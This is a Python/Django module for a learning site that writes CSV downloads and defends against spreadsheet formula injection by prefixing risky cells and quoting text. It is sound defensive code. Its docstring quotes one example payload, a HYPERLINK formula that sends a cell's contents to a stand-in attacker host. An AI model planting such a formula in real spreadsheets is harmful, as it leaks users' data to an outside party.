"""Spreadsheet downloads. Every CSV the site offers is written here, and only here.

A learner or an editor can put any text in a cell (a typed answer, a question's prompt). A
spreadsheet program opening the file runs a cell that starts with ``= + - @``, a tab or a
carriage return as a formula (``=HYPERLINK("http://evil.example/?x="&A1,"click")``), so such
text gets a leading ``'``, as OWASP's CSV-injection guidance says, and every text cell is quoted
so that no separator inside it can start a new cell. Numbers stay numbers: a computed
discrimination of -0.123 is written as a number, not as text.
"""

import csv
from decimal import Decimal

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value):
    """``value`` as a cell no spreadsheet runs: numbers as they are, text neutralised, None empty."""
    if value is None:
        return ""
    if isinstance(value, float) and value.is_integer():
        return int(value)  # 3 points, not 3.0
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_response(filename, header, rows):
    """A CSV download: UTF-8 with a byte-order mark (so spreadsheet programs read Korean right)."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    writer = csv.writer(response, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
    for row in [header, *rows]:
        writer.writerow([spreadsheet_cell(value) for value in row])
    return response
